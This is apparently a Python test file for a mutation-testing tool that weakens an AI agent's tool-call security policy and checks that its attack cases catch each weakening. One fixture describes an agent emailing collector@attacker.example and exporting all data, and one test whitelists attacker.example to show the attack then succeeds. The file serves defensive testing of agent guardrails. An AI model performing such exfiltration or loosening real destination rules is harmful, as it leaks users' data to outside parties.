"""`yett prove`: a policy is weakened in every way, and its cases have to notice."""

import json
import re

import yett
from yett import DESKMATE, err, out, run

EXAMPLE = DESKMATE.parent / "yett.cases.toml"


def cases_of(text):
    """The cases of a file, each as it stands there."""
    return [part for part in re.split(r"(?m)^(?=\[\[case\]\]$)", text) if part.startswith("[[case]]")]


class Prove(yett.InScratchFolder):
    def prove(self, *words, policy=DESKMATE):
        result = run("prove", "-p", policy, "--format", "json", *words)
        self.assertIn(result.returncode, (0, 1), err(result))
        proof = json.loads(out(result))
        self.assertEqual(result.returncode, 1 if proof["survived"] else 0)
        return proof

    def without(self, *names):
        """The example's cases less these."""
        kept = [case for case in cases_of(EXAMPLE.read_text()) if not any(f'name = "{name}"' in case for name in names)]
        return self.write("less.cases.toml", "".join(kept))

    def test_every_mutant_of_the_example_is_killed_or_equivalent(self):
        proof = self.prove(EXAMPLE)
        self.assertEqual((proof["survived"], proof["redundant"], proof["void"]), (0, 0, 0))
        self.assertEqual(proof["killed"] + proof["equivalent"], proof["mutants"])
        self.assertGreater(proof["killed"], 150)
        for mutant in proof["results"]:
            self.assertTrue(mutant["by"], mutant)

    def test_the_docs_show_what_is_printed(self):
        printed = out(run("prove", "-p", DESKMATE, EXAMPLE)).strip()
        self.assertIn(printed, (yett.SOURCE / "docs/prove.md").read_text())

    def test_what_runs_now_is_not_redundant(self):
        """The rule of an attack changed because it runs, or of a call that does no harm."""
        suite = self.write("weak.cases.toml", """
[[case]]
name = "approved to an attacker"
kind = "attack"
session = { tenant = "acme" }
approver = "approve"
[[case.call]]
tool = "send_email"
arguments = { to = "collector@attacker.example", subject = "s", body = "b" }
[[case.call]]
tool = "export_everything"
harm = true
""")
        by_name = {mutant["name"]: mutant for mutant in self.prove(suite)["results"]}
        self.assertEqual(by_name["rule-off: destination.unlisted"]["fate"], "survived")

    def test_the_mutations_of_the_demo_are_among_them(self):
        by_name = {mutant["name"]: mutant for mutant in self.prove(EXAMPLE)["results"]}
        listed = by_name["allow-attacker-domain: emails lists attacker.example"]
        self.assertEqual((listed["fate"], listed["by_attack"]), ("killed", True))
        self.assertEqual(by_name["gate-first: a person is asked before the destination is judged"]["fate"], "killed")

    def test_no_case_of_the_example_can_be_missed(self):
        needless = run("prove", "-p", DESKMATE, EXAMPLE, "--needless")
        self.assertEqual((needless.returncode, out(needless)), (0, ""))
        names = re.findall(r'(?m)^name = "(.*)"$', EXAMPLE.read_text())
        for name in names[:: len(names) // 8]:
            with self.subTest(name):
                proof = self.prove(self.without(name))
                self.assertGreater(proof["survived"] + proof["redundant"], 0, "every mutant is killed without it")

    def test_a_case_that_says_nothing_new_is_named(self):
        text = EXAMPLE.read_text()
        twice = self.write("twice.cases.toml", text + "\n" + cases_of(text)[0].replace('name = "', 'name = "once more: '))
        needless = out(run("prove", "-p", DESKMATE, twice, "--needless")).splitlines()
        self.assertEqual(len(needless), 2, needless)

    def test_each_operator_has_mutants(self):
        self.assertEqual({mutant["operator"] for mutant in self.prove(EXAMPLE)["results"]}, {
            "rule-off", "gate-first", "stage-swap", "judged-once", "loose-match", "range-open", "redirects-followed", "answers-unchecked",
            "unscrubbed", "allow-attacker-host", "allow-attacker-domain", "capability-granted", "source-granted", "tool-removed",
            "returns-trusted", "sensitivity-laxer", "tenant-dropped", "effect-laxer", "reversible-laxer", "destination-dropped",
            "display-names", "approval-for-ever", "writes-unasked", "flood-allowed", "flow-allowed", "limit-off", "redaction-off"})

    def test_a_survivor_comes_with_the_case_that_kills_it(self):
        less = self.without("send_email: to to an attacker")
        shown = run("prove", "-p", DESKMATE, less)
        self.assertEqual(shown.returncode, 1)
        killers = self.folder / "killers.cases.toml"
        proof = self.prove(less, "--write", killers)
        survivors = [mutant for mutant in proof["results"] if mutant["fate"] == "survived"]
        for survivor in survivors:
            self.assertIn(survivor["would_kill"].splitlines()[1], out(shown), "ready to paste")
        self.assertEqual(self.prove(less, killers)["survived"], 0)
        again = run("prove", "-p", DESKMATE, less, "--write", killers)
        self.assertEqual(again.returncode, 2, "nothing is written over")

    def test_a_suite_that_fails_by_itself_proves_nothing(self):
        wrong = self.write("wrong.cases.toml", EXAMPLE.read_text().replace('rule = "destination.scheme"', 'rule = "destination.port"'))
        result = run("prove", "-p", DESKMATE, wrong)
        self.assertEqual(result.returncode, 1)
        self.assertIn("they prove nothing", err(result))
        self.assertNotIn("killed", out(result))

    def test_a_weaker_policy_lets_an_attack_through(self):
        weaker = self.write("weaker.toml", DESKMATE.read_text().replace('email_domains = ["deskmate.internal"]',
                                                                      'email_domains = ["deskmate.internal", "attacker.example"]'))
        result = run("test", "-p", weaker, EXAMPLE)
        self.assertEqual(result.returncode, 1)
        self.assertIn("ATTACK SUCCEEDED", out(result))

    def test_a_starter_suite_kills_everything_and_has_nothing_to_spare(self):
        policy = self.write("mine.toml", DESKMATE.read_text())
        written = run("prove", "-p", policy, "--starter", self.folder / "mine.cases.toml")
        self.assertEqual(written.returncode, 0, err(written))
        self.assertEqual(self.prove(self.folder / "mine.cases.toml", policy=policy)["survived"], 0)
        self.assertEqual((self.folder / "mine.cases.toml").read_text().split("[[case]]", 1)[1],
                         EXAMPLE.read_text().split("[[case]]", 1)[1], "the example is the starter suite, word for word")
        again = run("prove", "-p", policy, "--starter", self.folder / "mine.cases.toml")
        self.assertEqual(again.returncode, 2)

    def test_both_languages_and_formats(self):
        chinese = run("prove", "-p", DESKMATE, EXAMPLE, "--lang", "zh")
        self.assertIn("被发现", out(chinese))
        markdown = run("prove", "-p", DESKMATE, EXAMPLE, "--format", "markdown")
        self.assertIn("| rule-off: session.expired | killed | ", out(markdown))
        csv = run("prove", "-p", DESKMATE, EXAMPLE, "--format", "csv")
        self.assertEqual(len(out(csv).splitlines()), 1 + self.prove(EXAMPLE)["mutants"])

    def test_no_progress_and_no_colour_off_a_terminal(self):
        result = run("prove", "-p", DESKMATE, EXAMPLE)
        self.assertEqual(err(result), "")
        self.assertNotIn("\x1b", out(result))


if __name__ == "__main__":
    yett.main()
